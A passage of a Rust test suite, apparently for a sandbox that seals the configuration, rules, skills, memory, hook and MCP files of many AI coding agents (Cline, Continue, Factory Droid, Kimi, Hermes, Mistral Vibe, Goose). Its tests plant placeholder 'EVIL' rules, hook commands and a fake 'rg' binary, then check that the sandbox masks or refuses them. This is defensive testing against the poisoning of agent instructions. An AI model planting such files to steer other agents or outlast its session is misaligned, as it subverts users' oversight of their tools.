        "[{\n  \"model\": \"m1\"\n}][][{\n  \"custom_models\": [\n    {\n      \"model\": \"m\"\n    }\n  ]\n}]\n[{}]\nlocal\n[{\n  \"model\": \"p/m\"\n}]\nend\n",
        "{err}"
    );
    let plant = r#"
        try factory-hooks 'mkdir -p web/.factory && echo "{}" > web/.factory/hooks.json'
        try factory-settings 'echo "{}" > .factory/settings.json'
        try agent-rules 'mkdir -p .agent/rules && echo EVIL > .agent/rules/r.md'
        try zed 'mkdir -p lib && echo EVIL > lib/.rules'
        try jetbrains 'mkdir -p .aiassistant/rules && echo EVIL > .aiassistant/rules/x.md'
        try local 'echo EVIL > AGENTS.local.md'
        try home-factory 'echo "{\"hooks\": {}}" > ~/.factory/settings.json'
        try cline-hook 'mkdir -p .cline/hooks && echo evil > .cline/hooks/TaskStart'
        try home-cline 'echo EVIL > ~/.cline/rules/evil.md'
        try kilo-plugin 'mkdir -p .kilo/plugins && echo evil > .kilo/plugins/p.js'
        try home-kilo 'mkdir -p ~/.config/kilo/plugin && echo evil > ~/.config/kilo/plugin/p.js'
    "#;
    assert_plants_refused(&w, plant, 11);
    for planted in [
        "web/.factory/hooks.json",
        ".agent/rules/r.md",
        "lib/.rules",
        ".aiassistant/rules/x.md",
        "AGENTS.local.md",
        ".cline/hooks/TaskStart",
    ] {
        assert!(!p.join(planted).exists(), "{planted} was planted");
    }
    assert!(!w.home.join(".cline/rules/evil.md").exists());
    assert!(!p.join(".kilo/plugins/p.js").exists());
    assert!(!w.home.join(".config/kilo/plugin/p.js").exists());
    assert_eq!(
        std::fs::read_to_string(w.home.join(".local/share/kilo/kilo.db")).unwrap(),
        "state\n"
    );
    // Cline's state went through to the host.
    assert_eq!(
        std::fs::read_to_string(w.home.join(".cline/data/db/sessions.db")).unwrap(),
        "state\n"
    );
    // Cline's hub mode would run the session outside the run: held to
    // `local` whatever the caller set.
    let (code, out, err) = w.run_sh(
        "echo $CLINE_SESSION_BACKEND_MODE",
        &[("CLINE_SESSION_BACKEND_MODE", Path::new("auto"))],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "local\n", "{err}");
    // Cline's relocating variables: a hooks directory, an MCP settings file
    // and a data directory elsewhere are masked as its own are.
    let elsewhere = w.home.join("elsewhere");
    write(&elsewhere.join("hooks/TaskStart"), "echo hook");
    write(
        &elsewhere.join("mcp.json"),
        r#"{"mcpServers": {"s": {"command": "x"}}}"#,
    );
    write(
        &elsewhere.join("data/settings/cline_mcp_settings.json"),
        r#"{"mcpServers": {"s": {"command": "x"}}}"#,
    );
    let (hooks, mcp, data) = (
        elsewhere.join("hooks"),
        elsewhere.join("mcp.json"),
        elsewhere.join("data"),
    );
    let (code, out, err) = w.run_sh(
        r#"echo "[$(ls -A "$CLINE_HOOKS_DIR")$(cat "$CLINE_MCP_SETTINGS_PATH" "$CLINE_DATA_DIR/settings/cline_mcp_settings.json")]""#,
        &[
            ("CLINE_HOOKS_DIR", &hooks),
            ("CLINE_MCP_SETTINGS_PATH", &mcp),
            ("CLINE_DATA_DIR", &data),
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.replace('\n', ""), "[{}{}]", "{err}");
    assert!(
        std::fs::read_to_string(w.home.join(".factory/settings.json"))
            .unwrap()
            .contains("evil")
    );
    assert_served_once_pinned(&w, &unpinned);
}

/// A host directory of a skeleton outside the write scope (here one in the
/// home) is bound read-only with every mount below it: a mount inside it
/// cannot be written either, and the host keeps nothing of the attempt.
/// (The mounts below a skeleton's entries are made read-only for all its
/// entries at once.)
#[test]
fn a_mount_inside_a_read_only_directory_of_the_home_is_read_only_too() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let neighbour = w.home.join("neighbour");
    let inner = neighbour.join("inner");
    std::fs::create_dir_all(&inner).unwrap();
    write(&neighbour.join("kept.txt"), "kept");
    let mounted = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "tmpfs"])
        .arg(&inner)
        .status()
        .unwrap();
    assert!(mounted.success(), "mount a tmpfs at {}", inner.display());
    /// Unmounts the tmpfs however the test ends.
    struct Unmount<'a>(&'a Path);
    impl Drop for Unmount<'_> {
        fn drop(&mut self) {
            let _ = std::process::Command::new("umount").arg(self.0).status();
        }
    }
    let _unmount = Unmount(&inner);
    write(&inner.join("seen.txt"), "seen");
    let script = format!(
        r#"
        try() {{ if eval "$2" 2>/dev/null; then echo "$1:written"; else echo "$1:refused"; fi; }}
        echo "[$(cat '{n}/kept.txt')][$(cat '{n}/inner/seen.txt')]"
        try neighbour 'echo x > "{n}/planted.txt"'
        try inner 'echo x > "{n}/inner/planted.txt"'
        try inner-change 'echo x >> "{n}/inner/seen.txt"'
        "#,
        n = neighbour.display()
    );
    let (out, err) = run_ok(&w, &script);
    assert!(
        out.contains("[kept][seen]"),
        "the neighbour is shown:\n{out}\n{err}"
    );
    for refused in ["neighbour", "inner", "inner-change"] {
        assert!(
            out.contains(&format!("{refused}:refused")),
            "{refused} must be refused:\n{out}\n{err}"
        );
    }
    assert!(!neighbour.join("planted.txt").exists());
    assert!(!inner.join("planted.txt").exists());
    assert_eq!(
        std::fs::read_to_string(inner.join("seen.txt")).unwrap(),
        "seen"
    );
}

/// Continue CLI's places (checked offline with Continue CLI 1.5.47): the
/// project's `CODEX.md` (the last of the instruction files it reads the
/// first of) and `.continue/skills`; its user directory (`~/.continue`, or
/// `CONTINUE_GLOBAL_DIR`) with `config.yaml` cut to its model settings and
/// its rules, skills, permissions and hook settings masked, its sessions
/// written through; and the two variables a project `.env` could set for it,
/// held to their defaults.
#[test]
fn continue_cli_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let config = "name: Local\nversion: 1.0.0\nschema: v1\nmodels:\n- name: m\n  provider: openai\nmcpServers:\n- name: evil\n  command: sh\nrules:\n- CONTINUE CONFIG RULE\n";
    write(&w.home.join(".continue/config.yaml"), config);
    write(&w.home.join(".continue/rules/r.md"), "CONTINUE USER RULE");
    write(
        &w.home.join(".continue/skills/s/SKILL.md"),
        "CONTINUE USER SKILL",
    );
    write(&w.home.join(".continue/permissions.yaml"), "allow: [Bash]");
    write(&w.home.join(".continue/settings.json"), r#"{"hooks": {}}"#);
    let unpinned = [
        ("CODEX.md", "UNPINNED CODEX"),
        ("pkg/CODEX.md", "UNPINNED PKG CODEX"),
        (".continue/skills/s/SKILL.md", "UNPINNED CONTINUE SKILL"),
    ];
    let shown = unpinned_shown(&w, &unpinned, "-e");
    let script = format!(
        r#"
        cat ~/.continue/config.yaml
        echo "[$(ls -A ~/.continue/rules)$(ls -A ~/.continue/skills)$(cat ~/.continue/permissions.yaml ~/.continue/settings.json)]"
        echo "$CONTINUE_GLOBAL_DIR $CONTINUE_API_BASE"
        mkdir -p ~/.continue/sessions && echo state > ~/.continue/sessions/s.json
        {}
        echo end
    "#,
        shown
    );
    let (code, out, err) = w.run_sh(&script, &[]);
    assert_eq!(code, 0, "{err}");
    let home = w.home.display();
    assert_eq!(
        out,
        format!(
            "name: Local\nversion: 1.0.0\nschema: v1\nmodels:\n- name: m\n  provider: openai\n\
             []\n{home}/.continue https://api.continue.dev/\nend\n"
        ),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(w.home.join(".continue/sessions/s.json")).unwrap(),
        "state\n"
    );
    let plant = r#"
        try codex-md 'echo EVIL > CODEX.md'
        try continue-skill 'mkdir -p .continue/skills/e && echo EVIL > .continue/skills/e/SKILL.md'
        try home-skill 'mkdir -p ~/.continue/skills/e && echo EVIL > ~/.continue/skills/e/SKILL.md'
        try home-config 'echo "mcpServers: []" >> ~/.continue/config.yaml'
    "#;
    assert_plants_refused(&w, plant, 4);
    assert!(!w.home.join(".continue/skills/e").exists());
    assert_eq!(
        std::fs::read_to_string(w.home.join(".continue/config.yaml")).unwrap(),
        config
    );
    // A directory the caller names instead is masked as the home's is.
    let elsewhere = w.home.join("elsewhere");
    write(&elsewhere.join("config.yaml"), config);
    write(&elsewhere.join("skills/s/SKILL.md"), "RELOCATED SKILL");
    let (code, out, err) = w.run_sh(
        r#"echo "[$(ls -A "$CONTINUE_GLOBAL_DIR/skills")$(grep -c evil "$CONTINUE_GLOBAL_DIR/config.yaml")]""#,
        &[("CONTINUE_GLOBAL_DIR", &elsewhere)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[0]\n", "{err}");
    assert_served_once_pinned(&w, &unpinned);
}

/// Factory Droid's places (checked offline with Factory Droid 0.225.2): its
/// design guidelines (`DESIGN.md`) hidden until pinned; `~/.factory`
/// writable for the sessions it must write to start, its extensions masked
/// and its settings cut to the user's own models without their commands;
/// `~/.agent`'s instructions and skills masked; and the places its
/// variables name masked as the home's.
#[test]
fn factory_droid_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let f = w.home.join(".factory");
    write(
        &f.join("settings.json"),
        r#"{"model": "custom:m", "customModels": [{"model": "m", "baseUrl": "http://127.0.0.1:1/v1", "apiKey": "k", "apiKeyHelper": "evil"}], "enabledPlugins": {"p": true}}"#,
    );
    write(&f.join("CLAUDE.md"), "FACTORY USER CLAUDE");
    write(&f.join("DESIGN.md"), "FACTORY USER DESIGN");
    write(&f.join("output-styles/o.md"), "FACTORY USER STYLE");
    write(&w.home.join(".agent/skills/s/SKILL.md"), "AGENT USER SKILL");
    write(&w.home.join(".agent/AGENTS.md"), "AGENT USER AGENTS");
    write(&w.home.join(".agents/Design.md"), "AGENTS USER DESIGN");
    // Above the project every letter case of them is masked, not only the
    // spellings the lists name.
    let parent = w.project.parent().unwrap();
    write(&parent.join("dEsIgN.mD"), "PARENT ODD DESIGN");
    write(&parent.join("AgEnTs.Md"), "PARENT ODD AGENTS");
    let unpinned = [
        ("DESIGN.md", "UNPINNED DESIGN"),
        ("pkg/design.md", "UNPINNED PKG DESIGN"),
        ("docs/dEsIgN.Md", "UNPINNED ODD DESIGN"),
        (".factory/output-styles/o.md", "UNPINNED STYLE"),
    ];
    let shown = unpinned_shown(&w, &unpinned, "-e");
    let script = format!(
        r#"
        cat ~/.factory/settings.json; echo
        echo "[$(cat ~/.factory/CLAUDE.md ~/.factory/DESIGN.md ../dEsIgN.mD ../AgEnTs.Md)$(ls -A ~/.factory/output-styles)$(ls -A ~/.agent)$(ls -A ~/.agents)]"
        mkdir -p ~/.factory/sessions/p && echo state > ~/.factory/sessions/p/s.jsonl
        {shown}
        echo end
    "#
    );
    let (code, out, err) = w.run_sh(&script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        r#"{"model":"custom:m","customModels":[{"model":"m","baseUrl":"http://127.0.0.1:1/v1","apiKey":"k"}]}[]end"#,
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(f.join("sessions/p/s.jsonl")).unwrap(),
        "state\n"
    );
    let plant = r#"
        try design 'echo EVIL > DESIGN.md'
        try home-style 'echo evil > ~/.factory/output-styles/e.md'
        try home-plugin 'mkdir -p ~/.factory/plugins/p && echo evil > ~/.factory/plugins/p/plugin.json'
        try home-config 'echo "{}" > ~/.factory/config.json'
        try home-design 'echo EVIL > ~/.factory/design.md'
    "#;
    assert_plants_refused(&w, plant, 5);
    assert!(!f.join("plugins/p").exists());
    // The places Droid's variables name are masked as the home's are.
    let elsewhere = w.home.join("elsewhere");
    write(&elsewhere.join(".factory/AGENTS.md"), "RELOCATED AGENTS");
    write(&elsewhere.join(".agents/AGENTS.md"), "RELOCATED AGENTS DIR");
    write(
        &elsewhere.join(".agent/skills/s/SKILL.md"),
        "RELOCATED AGENT SKILL",
    );
    write(
        &elsewhere.join("runtime.json"),
        r#"{"hooks": {"SessionStart": [{"hooks": [{"command": "evil"}]}]}}"#,
    );
    let (code, out, err) = w.run_sh(
        r#"echo "[$(cat "$FACTORY_HOME_OVERRIDE/.factory/AGENTS.md" "$FACTORY_RUNTIME_SETTINGS_PATH")$(ls -A "$FACTORY_HOME_OVERRIDE/.agents")$(ls -A "$FACTORY_HOME_OVERRIDE/.agent")]""#,
        &[
            ("FACTORY_HOME_OVERRIDE", &elsewhere),
            ("FACTORY_RUNTIME_SETTINGS_PATH", &elsewhere.join("runtime.json")),
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[{}]\n", "{err}");
    assert_served_once_pinned(&w, &unpinned);
}

/// Kimi CLI's places (checked offline with Kimi CLI 1.52): `~/.kimi`
/// writable for the logs, sessions and metadata it must write to start (its
/// metadata replaced by a rename, which a bound entry would refuse), its
/// skills, plugins and MCP servers masked, its configuration without hooks
/// or skill directories, the tips whose script its command runs masked; and
/// `KIMI_SHARE_DIR` masked as the home's.
#[test]
fn kimi_cli_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let k = w.home.join(".kimi");
    write(
        &k.join("config.toml"),
        "default_model = \"m\"\nextra_skill_dirs = [\"docs/sk\"]\n[providers.p]\ntype = \"openai_legacy\"\nenv = { BASH_ENV = \"/tmp/x\" }\n[[hooks]]\nevent = \"SessionStart\"\ncommand = \"evil\"\n",
    );
    write(
        &k.join("kimi.json"),
        r#"{"work_dirs": [{"path": "/old", "kaos": "local"}]}"#,
    );
    write(&k.join("kimi_code_tips.json"), r#"{"install": "evil"}"#);
    write(&k.join("skills/s/SKILL.md"), "KIMI USER SKILL");
    write(&k.join("plugins/p/plugin.json"), "{}");
    let script = r#"
        cat ~/.kimi/config.toml
        echo "[$(cat ~/.kimi/kimi_code_tips.json)$(ls -A ~/.kimi/skills ~/.kimi/plugins)]"
        mkdir -p ~/.kimi/logs && echo log > ~/.kimi/logs/kimi.log
        printf '{"work_dirs": [{"path": "/new", "kaos": "local"}]}' > ~/.kimi/kimi.json.tmp
        mv ~/.kimi/kimi.json.tmp ~/.kimi/kimi.json
        echo end
    "#;
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        r#"default_model="m"[providers.p]type="openai_legacy"[~/.kimi/plugins:~/.kimi/skills:]end"#
            .replace("~", &w.home.to_string_lossy()),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(k.join("logs/kimi.log")).unwrap(),
        "log\n"
    );
    assert!(
        std::fs::read_to_string(k.join("kimi.json"))
            .unwrap()
            .contains("/new")
    );
    let plant = r#"
        try tips 'echo "{}" > ~/.kimi/kimi_code_tips.json'
        try config 'echo "[[hooks]]" >> ~/.kimi/config.toml'
        try skill 'mkdir -p ~/.kimi/skills/e && echo evil > ~/.kimi/skills/e/SKILL.md'
        try mcp 'echo "{}" > ~/.kimi/mcp.json'
    "#;
    assert_plants_refused(&w, plant, 4);
    let elsewhere = w.home.join("share");
    write(&elsewhere.join("plugins/p/SKILL.md"), "RELOCATED PLUGIN");
    write(
        &elsewhere.join("config.toml"),
        "[[hooks]]\ncommand = \"evil\"\n",
    );
    let (code, out, err) = w.run_sh(
        r#"echo "[$(ls -A "$KIMI_SHARE_DIR/plugins")$(cat "$KIMI_SHARE_DIR/config.toml")]""#,
        &[("KIMI_SHARE_DIR", &elsewhere)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[]\n", "{err}");
}

/// Hermes Agent's places (checked offline with Hermes Agent 0.19):
/// `~/.hermes` writable for the logs and sessions it must write to start,
/// its memories, profiles, scheduled jobs and skills masked, its
/// configuration cut to its model; and its managed directory filtered.
#[test]
fn hermes_agent_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let h = w.home.join(".hermes");
    write(
        &h.join("config.yaml"),
        "model:\n  provider: custom\n  default: m\nmcp_servers:\n  evil:\n    command: evil\nagent:\n  environment_hint: EVIL\n",
    );
    write(&h.join("memories/MEMORY.md"), "HERMES MEMORY");
    write(&h.join("active_profile"), "evil");
    write(&h.join("profiles/evil/SOUL.md"), "PROFILE SOUL");
    write(&h.join("cron/jobs.json"), "[]");
    let script = r#"
        cat ~/.hermes/config.yaml
        echo "[$(cat ~/.hermes/active_profile)$(ls -A ~/.hermes/profiles ~/.hermes/cron ~/.hermes/memories)]"
        mkdir -p ~/.hermes/logs && echo log > ~/.hermes/logs/agent.log
        echo end
    "#;
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{err}");
    let home = w.home.to_string_lossy();
    assert_eq!(
        out.replace(['\n', ' '], ""),
        format!(
            "model:provider:customdefault:m[{home}/.hermes/cron:{home}/.hermes/memories:{home}/.hermes/profiles:]end"
        ),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(h.join("logs/agent.log")).unwrap(),
        "log\n"
    );
    let plant = r#"
        try memory 'echo evil >> ~/.hermes/memories/MEMORY.md'
        try profile 'echo evil > ~/.hermes/active_profile'
        try cron 'echo "[]" > ~/.hermes/cron/jobs.json'
        try config 'echo "hooks: {}" >> ~/.hermes/config.yaml'
        try snapshot 'echo "{}" > ~/.hermes/.skills_prompt_snapshot.json'
    "#;
    assert_plants_refused(&w, plant, 5);
    let managed = w.home.join("managed");
    write(
        &managed.join("config.yaml"),
        "agent:\n  environment_hint: EVIL\n",
    );
    let (code, out, err) = w.run_sh(
        r#"echo "[$(cat "$HERMES_MANAGED_DIR/config.yaml")]""#,
        &[("HERMES_MANAGED_DIR", &managed)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[]\n", "{err}");
}

/// Mistral Vibe's places (checked offline with Mistral Vibe 3.0): `~/.vibe`
/// writable for the logs and sessions it must write to start, its
/// extensions, plugins and hooks masked, its configuration without MCP
/// servers or tool paths; the plugin store it reads back unchecked the
/// run's own, in memory: written in the run, gone after it.
#[test]
fn mistral_vibe_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let v = w.home.join(".vibe");
    write(
        &v.join("config.toml"),
        "active_model = \"m\"\ntool_paths = [\"/tmp/t\"]\n[[mcp_servers]]\nname = \"evil\"\ncommand = \"evil\"\n",
    );
    write(&v.join("hooks.toml"), "[[hooks]]\ncommand = \"evil\"\n");
    write(&v.join("plugins/p/plugin.json"), "{}");
    let store = v.join("logs/session/plugins");
    write(&store.join("packages/ab/skill/SKILL.md"), "STORE SKILL");
    let script = r#"
        cat ~/.vibe/config.toml
        echo "[$(cat ~/.vibe/hooks.toml)$(ls -A ~/.vibe/plugins ~/.vibe/logs/session/plugins)]"
        echo log > ~/.vibe/logs/vibe.log
        mkdir -p ~/.vibe/logs/session/plugins/packages/ab && echo planted > ~/.vibe/logs/session/plugins/packages/ab/new.md
        cat ~/.vibe/logs/session/plugins/packages/ab/new.md
    "#;
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{err}");
    let home = w.home.to_string_lossy();
    assert_eq!(
        out.replace(['\n', ' '], ""),
        format!(
            "active_model=\"m\"[{home}/.vibe/logs/session/plugins:{home}/.vibe/plugins:]planted"
        ),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(v.join("logs/vibe.log")).unwrap(),
        "log\n"
    );
    assert!(!store.join("packages/ab/new.md").exists());
    assert_eq!(
        std::fs::read_to_string(store.join("packages/ab/skill/SKILL.md")).unwrap(),
        "STORE SKILL"
    );
    let plant = r#"
        try hooks 'echo "[[hooks]]" > ~/.vibe/hooks.toml'
        try plugin 'mkdir -p ~/.vibe/plugins/e && echo "{}" > ~/.vibe/plugins/e/plugin.json'
        try tool 'echo "import os" > ~/.vibe/tools/t.py'
        try config 'echo "tool_paths = []" >> ~/.vibe/config.toml'
    "#;
    assert_plants_refused(&w, plant, 4);
    let root = w.home.join("sessions");
    write(
        &root.join("plugins/packages/ab/SKILL.md"),
        "RELOCATED STORE",
    );
    let (code, out, err) = w.run_sh(
        r#"echo "[$(ls -A "$MISTRAL_VIBE_SESSION_ROOT/plugins")]""#,
        &[("MISTRAL_VIBE_SESSION_ROOT", &root)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[]\n", "{err}");
    // A store the host does not have yet is the run's own too: the
    // session written beside it reaches the host, the store does not.
    let fresh = w.home.join("fresh-sessions");
    std::fs::create_dir_all(&fresh).unwrap();
    let (code, _, err) = w.run_sh(
        r#"echo x > "$MISTRAL_VIBE_SESSION_ROOT/plugins/x" && mkdir "$MISTRAL_VIBE_SESSION_ROOT/s" && echo s > "$MISTRAL_VIBE_SESSION_ROOT/s/state""#,
        &[("MISTRAL_VIBE_SESSION_ROOT", &fresh)],
    );
    assert_eq!(code, 0, "{err}");
    assert!(fresh.join("s/state").exists());
    assert!(!fresh.join("plugins").exists());
}

/// Kimi Code CLI's places (checked offline with Kimi Code CLI 2.1):
/// `~/.kimi-code` writable for the sessions and logs it must write to
/// start, its workspace list replaced by a rename run after run, its
/// configuration without hooks or skill directories, its interface's
/// without commands, the programs it downloads the run's own.
#[test]
fn kimi_code_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let k = w.home.join(".kimi-code");
    write(
        &k.join("config.toml"),
        "default_model = \"m\"\nextra_skill_dirs = [\"/x\"]\n[[hooks]]\nevent = \"SessionStart\"\ncommand = \"evil\"\n",
    );
    write(
        &k.join("tui.toml"),
        "theme = \"dark\"\n[status_line]\ncommand = \"evil\"\n",
    );
    write(
        &k.join("workspaces.json"),
        r#"{"version": 1, "workspaces": {}}"#,
    );
    write(&k.join("bin/rg"), "#!/bin/sh\necho EVIL\n");
    let script = r#"
        cat ~/.kimi-code/config.toml ~/.kimi-code/tui.toml
        echo "[$(ls -A ~/.kimi-code/bin)]"
        echo planted > ~/.kimi-code/bin/rg
        mkdir -p ~/.kimi-code/sessions/s && echo state > ~/.kimi-code/sessions/s/state.json
        for n in 1 2; do
            printf '{"version": 1, "workspaces": {"w%s": {}}}' $n > ~/.kimi-code/workspaces.json.tmp
            mv ~/.kimi-code/workspaces.json.tmp ~/.kimi-code/workspaces.json
        done
        echo end
    "#;
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        r#"default_model="m"theme="dark"[]end"#,
        "{err}"
    );
    assert!(
        std::fs::read_to_string(k.join("workspaces.json"))
            .unwrap()
            .contains("w2")
    );
    assert_eq!(
        std::fs::read_to_string(k.join("bin/rg")).unwrap(),
        "#!/bin/sh\necho EVIL\n"
    );
    assert!(k.join("sessions/s/state.json").exists());
    let plant = r#"
        try config 'echo "[[hooks]]" >> ~/.kimi-code/config.toml'
        try tui 'echo "[editor]" >> ~/.kimi-code/tui.toml'
        try system 'echo evil > ~/.kimi-code/SYSTEM.md'
        try plugin 'mkdir -p ~/.kimi-code/plugins/p && echo "{}" > ~/.kimi-code/plugins/installed.json'
    "#;
    assert_plants_refused(&w, plant, 4);
}

/// Goose's places (checked offline with Goose 1.52): its configuration
/// cut to its provider and model, its hints, instructions and prompts
/// masked, its configuration directory read-only; its sessions and logs
/// writable (it panics when it cannot write its log); and the same under
/// `GOOSE_PATH_ROOT`.
#[test]
fn goose_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let g = w.home.join(".config/goose");
    write(
        &g.join("config.yaml"),
        "GOOSE_PROVIDER: openai\nGOOSE_MODEL: m\nextensions:\n  evil:\n    cmd: evil\nCONTEXT_FILE_NAMES: [\"x.md\"]\n",
    );
    write(&g.join(".goosehints"), "GOOSE HINTS");
    write(&g.join("prompts/system.md"), "GOOSE PROMPT");
    let script = r#"
        cat ~/.config/goose/config.yaml
        echo "[$(cat ~/.config/goose/.goosehints)$(ls -A ~/.config/goose/prompts)]"
        mkdir -p ~/.local/share/goose/sessions ~/.local/state/goose/logs
        echo db > ~/.local/share/goose/sessions/sessions.db
        echo log > ~/.local/state/goose/logs/goose.log
        echo end
    "#;
    let (code, out, err) = w.run_sh(script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        "GOOSE_PROVIDER:openaiGOOSE_MODEL:m[]end",
        "{err}"
    );
    assert!(
        w.home
            .join(".local/share/goose/sessions/sessions.db")
            .exists()
    );
    assert!(w.home.join(".local/state/goose/logs/goose.log").exists());
    let plant = r#"
        try config 'echo "extensions: {}" >> ~/.config/goose/config.yaml'
        try prompt 'echo evil > ~/.config/goose/prompts/system.md'
        try permission 'echo "user: {always_allow: [x]}" > ~/.config/goose/permission.yaml'
        try recipe 'mkdir -p ~/.goose/recipes && echo evil > ~/.goose/recipes/r.yaml'
        try project 'mkdir -p .goose/recipes && echo evil > .goose/recipes/r.yaml'
    "#;
    assert_plants_refused(&w, plant, 5);
    let root = w.home.join("goose-root");
    write(&root.join("config/AGENTS.md"), "ROOT AGENTS");
    write(&root.join(".agents/skills/s/SKILL.md"), "ROOT SKILL");
    let (code, out, err) = w.run_sh(
        r#"echo "[$(cat "$GOOSE_PATH_ROOT/config/AGENTS.md")$(ls -A "$GOOSE_PATH_ROOT/.agents")]"; mkdir -p "$GOOSE_PATH_ROOT/state/logs" && echo log > "$GOOSE_PATH_ROOT/state/logs/l""#,
        &[("GOOSE_PATH_ROOT", &root)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[]\n", "{err}");
    assert!(root.join("state/logs/l").exists());
}

/// The places of the agents sealed from their sources and documentation
/// (CodeBuddy Code, Qoder CLI, iFlow CLI, GitLab Duo, Hermes Agent, Kimi
/// Code CLI, Mistral Vibe, Devin): their project files hidden until pinned
/// and refused as plants, their home directories' extensions masked with
/// the credentials and sessions beside them kept, and a relocated directory
/// masked as the home's is.
#[test]
fn places_of_agents_known_from_their_sources_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let h = &w.home;
    write(&h.join(".codebuddy/CODEBUDDY.md"), "CODEBUDDY USER MD");
    write(
        &h.join(".codebuddy/skills/s/SKILL.md"),
        "CODEBUDDY USER SKILL",
    );
    write(
        &h.join(".codebuddy/settings.json"),
        r#"{"model": "m", "hooks": {"Stop": []}}"#,
    );
    write(&h.join(".codebuddy/.credentials.json"), "CODEBUDDY KEY");
    write(&h.join(".qoder/rules/r.md"), "QODER USER RULE");
    write(&h.join(".hermes/SOUL.md"), "HERMES SOUL");
    write(&h.join(".kimi-code/AGENTS.md"), "KIMI USER AGENTS");
    write(&h.join(".vibe/tools/t.py"), "VIBE USER TOOL");
    write(&h.join(".gitlab/duo/chat-rules.md"), "DUO USER RULES");
    write(&h.join(".agents/agents/a.md"), "USER AGENT");
    let unpinned = [
        ("CODEBUDDY.md", "UNPINNED CODEBUDDY"),
        ("pkg/IFLOW.md", "UNPINNED IFLOW"),
        (".hermes.md", "UNPINNED HERMES"),
        ("pkg/claude.md", "UNPINNED LOWER CLAUDE"),
        (".qoder/rules/r.md", "UNPINNED QODER RULE"),
        (".vibe/tools/t.py", "UNPINNED VIBE TOOL"),
        (".gitlab/duo/mcp.json", "UNPINNED DUO MCP"),
        (".devin/hooks.v1.json", "UNPINNED DEVIN HOOKS"),
    ];
    let shown = unpinned_shown(&w, &unpinned, "-s");
    let script = format!(
        r#"
        echo "[$(cat ~/.codebuddy/CODEBUDDY.md ~/.hermes/SOUL.md ~/.kimi-code/AGENTS.md)$(ls -A ~/.codebuddy/skills)$(ls -A ~/.qoder/rules)$(ls -A ~/.vibe/tools)$(ls -A ~/.gitlab/duo)$(ls -A ~/.agents/agents)]"
        cat ~/.codebuddy/settings.json; echo
        cat ~/.codebuddy/.credentials.json; echo
        {}
        echo end
    "#,
        shown
    );
    let (code, out, err) = w.run_sh(&script, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        r#"[]{"model":"m"}CODEBUDDYKEYend"#,
        "{err}"
    );
    let plant = r#"
        try codebuddy-md 'echo EVIL > CODEBUDDY.md'
        try hermes-md 'echo EVIL > HERMES.md'
        try qoder-rule 'mkdir -p .qoder/rules && echo EVIL > .qoder/rules/e.md'
        try vibe-tool 'mkdir -p .vibe/tools && echo EVIL > .vibe/tools/e.py'
        try duo-rules 'mkdir -p .gitlab/duo && echo EVIL > .gitlab/duo/chat-rules.md'
        try home-codebuddy-skill 'mkdir -p ~/.codebuddy/skills/e && echo EVIL > ~/.codebuddy/skills/e/SKILL.md'
        try home-vibe-tool 'echo EVIL > ~/.vibe/tools/e.py'
        try home-vibe-config 'echo "[[mcp_servers]]" > ~/.vibe/config.toml'
        try home-hermes-config 'echo "mcp_servers: {}" > ~/.hermes/config.yaml'
        try home-qoder-new 'echo x > ~/.qoder/new.json'
    "#;
    assert_plants_refused(&w, plant, 10);
    assert!(!h.join(".vibe/tools/e.py").exists());
    // A directory the caller names instead is masked as the home's is.
    let elsewhere = h.join("elsewhere");
    write(&elsewhere.join("skills/s/SKILL.md"), "RELOCATED SKILL");
    let (code, out, err) = w.run_sh(
        r#"echo "[$(ls -A "$CODEBUDDY_CONFIG_DIR/skills")$(ls -A "$VIBE_HOME/skills")]""#,
        &[
            ("CODEBUDDY_CONFIG_DIR", &elsewhere),
            ("VIBE_HOME", &elsewhere),
        ],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[]\n", "{err}");
    assert_served_once_pinned(&w, &unpinned);
}

/// Crush's places (from its source, v0.90): its `crushrc` shell scripts,
/// its workspace configuration and commands in `.crush`, hidden until
/// pinned; its configuration directory (`~/.config/crush`, or
/// `CRUSH_GLOBAL_CONFIG`) with `crush.json` cut to its models and
/// providers (a provider whose value holds a command substitution dropped)
/// and its script, instructions, skills and commands masked; the global
/// `~/.config/AGENTS.md` and `~/.crush/commands`; its data configuration
/// written back without a command; and its client-server mode held off.
#[test]
fn crush_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let config = w.home.join(".config/crush");
    write(
        &config.join("crush.json"),
